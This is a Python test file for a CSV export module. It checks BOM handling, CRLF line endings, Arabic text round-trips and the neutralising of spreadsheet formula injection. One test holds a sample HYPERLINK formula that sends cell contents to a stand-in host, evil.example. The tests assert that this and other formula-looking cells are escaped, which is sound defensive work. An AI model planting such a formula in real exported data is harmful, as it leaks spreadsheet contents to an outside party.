"""CSV export (no database): UTF-8 with one BOM, CRLF, formula injection neutralised."""

import codecs
import csv
import io
import math
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from learning.core.csvexport import FORMULA_STARTS, csv_bytes, neutralized

HEADER = ["المتعلم", "الدرجة", "التمييز"]


def read_back(data: bytes) -> list[list[str]]:
    """What a spreadsheet-like reader gets: utf-8-sig drops the BOM, csv splits the cells."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_arabic_text_round_trips():
    rows = [["سقوط الموصل", 0.5, -0.12], ["Fall of Mosul — تموز 2017", 1, None]]
    assert read_back(csv_bytes(HEADER, rows)) == [
        HEADER,
        ["سقوط الموصل", "0.5", "-0.12"],
        ["Fall of Mosul — تموز 2017", "1", ""],
    ]


def test_the_bom_is_there_exactly_once():
    data = csv_bytes(HEADER, [["أمل", 1, 0.5], ["بدر", 0, None]])
    assert data.startswith(codecs.BOM_UTF8)
    assert data.count(codecs.BOM_UTF8) == 1


def test_a_bom_inside_a_cell_is_dropped_and_cannot_hide_a_formula():
    data = csv_bytes(["\ufeffname", "title"], [["\ufeffأمل", "\ufeff=1+1"]])
    assert data.count(codecs.BOM_UTF8) == 1
    assert read_back(data) == [["name", "title"], ["أمل", "'=1+1"]]


def test_lines_end_in_crlf():
    data = csv_bytes(["a", "b"], [["x", 1], ["y", 2]])
    assert data == codecs.BOM_UTF8 + b"a,b\r\nx,1\r\ny,2\r\n"


def test_a_formula_looking_title_is_neutralised():
    title = '=HYPERLINK("http://evil.example/?"&A1,"Mosul")'
    assert read_back(csv_bytes(["title"], [[title]]))[1] == ["'" + title]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_an_apostrophe(start):
    assert neutralized(start + "cmd") == "'" + start + "cmd"
    assert read_back(csv_bytes(["cell"], [[start + "cmd"]]))[1] == ["'" + start + "cmd"]


def test_headers_are_neutralised_too():
    assert read_back(csv_bytes(["@SUM(A1)", "ok"], []))[0] == ["'@SUM(A1)", "ok"]


def test_numbers_stay_numbers_and_text_that_looks_like_one_does_not():
    """-0.12 the code computed is a number; "-0.12" typed as a title is text, neutralised."""
    rows = [[-0.12, "-0.12", -3, Decimal("-1.50"), "+964 770", 1e-05]]
    assert read_back(csv_bytes(list("abcdef"), rows))[1] == [
        "-0.12",
        "'-0.12",
        "-3",
        "-1.50",
        "'+964 770",
        "1e-05",
    ]


def test_text_without_a_formula_start_is_untouched():
    for text in ["Mosul", "2017", "a=b", " =1+1", "50%", "", "سقوط الموصل"]:
        assert neutralized(text) == text


def test_cells_with_commas_quotes_and_newlines_round_trip():
    text = 'He said "no", then\r\nleft'
    assert read_back(csv_bytes(["note"], [[text]]))[1] == [text]


def test_a_row_of_the_wrong_length_is_refused():
    with pytest.raises(ValueError, match="row 2 has 1 cells, the header 2"):
        csv_bytes(["a", "b"], [["x", 1], ["y"]])


@pytest.mark.parametrize("value", [math.nan, math.inf, Decimal("NaN")])
def test_non_finite_numbers_are_refused(value):
    with pytest.raises(ValueError, match="no CSV cell"):
        csv_bytes(["a"], [[value]])


@pytest.mark.parametrize("value", [True, object()])
def test_other_types_are_refused(value):
    with pytest.raises(TypeError, match="no CSV cell"):
        csv_bytes(["a"], [[value]])


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_float_reads_back_as_itself(value):
    (cell,) = read_back(csv_bytes(["x"], [[value]]))[1]
    assert float(cell) == value


@given(st.text())
def test_no_text_cell_reads_back_as_a_formula(text):
    (cell,) = read_back(csv_bytes(["x"], [[text]]))[1]
    assert not cell.startswith(FORMULA_STARTS)
    shown = text.replace("\ufeff", "")
    assert cell in (shown, "'" + shown)
